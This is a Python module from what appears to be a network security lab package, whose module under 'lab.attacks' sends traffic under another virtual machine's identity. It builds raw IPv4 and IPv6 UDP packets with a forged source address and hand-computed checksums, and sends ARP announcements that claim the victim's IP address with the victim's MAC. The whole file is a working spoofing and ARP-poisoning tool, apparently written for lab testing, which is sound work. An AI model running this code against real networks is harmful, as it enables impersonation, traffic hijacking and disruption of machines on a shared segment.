"""Sends packets under another VM's name: UDP with its addresses, frames with its MAC, ARP that claims its address.

Nothing comes back to the sender: whether it worked shows at the far end, and at the tap.
"""

from __future__ import annotations

import socket
import struct
from ipaddress import ip_address

from netpersona.app.lab.attacks.order import Order, Tally
from netpersona.app.lab.layout import DROP, Machine, others, vm

PORT = 9_999
_UDP = 17
_ARP = 0x0806
_IPV6_HDRINCL = 36
_PAYLOAD = b"not from whom it says\n"


def run(order: Order, tally: Tally) -> str:
    """Send; what was done, in words.  Each third turn is an ARP claim, with the other's MAC."""
    victim, own = next(others(order.vm)), vm(order.vm)
    if own is None:
        raise OSError(f"{order.vm} is no VM")
    for number, family in order.turns():
        try:
            _claim(victim) if number % 3 == 2 else _send(victim.address(family), DROP.address(family))
            tally.answer()
        except OSError as error:
            tally.failure(error)
    return f"packets sent as {victim.name} ({victim.v4}, {victim.v6}, {victim.mac})"


def _send(source: str, peer: str) -> None:
    """One UDP datagram with a source that is not ours."""
    version = ip_address(source).version
    with socket.socket(socket.AF_INET if version == 4 else socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        if version == 6:
            raw.setsockopt(socket.IPPROTO_IPV6, _IPV6_HDRINCL, 1)
        raw.sendto(datagram(source, peer), (peer, 0))


def datagram(source: str, peer: str) -> bytes:
    """An IP packet with a UDP datagram for PORT, checksums and all."""
    a, b = ip_address(source).packed, ip_address(peer).packed
    size = 8 + len(_PAYLOAD)
    udp = struct.pack("!HHHH", PORT, PORT, size, 0) + _PAYLOAD
    total = _sum(a + b + struct.pack("!II", size, _UDP) + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", total) + udp[8:]
    if len(a) == 16:
        return struct.pack("!IHBB", 6 << 28, size, _UDP, 64) + a + b + udp
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + size, 1, 0, 64, _UDP, 0) + a + b
    return head[:10] + struct.pack("!H", _sum(head)) + head[12:] + udp


def _claim(victim: Machine) -> None:
    """An ARP announcement (RFC 5227) of the victim's address, in a frame with the victim's MAC."""
    mac, address = bytes.fromhex(victim.mac.replace(":", "")), ip_address(victim.v4).packed
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + mac + address + bytes(6) + address
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind(("eth0", _ARP))
        wire.send(b"\xff" * 6 + mac + struct.pack("!H", _ARP) + body)


def _sum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    words = struct.unpack(f"!{(len(data) + 1) // 2}H", data + bytes(len(data) % 2))
    total: int = sum(words)
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF
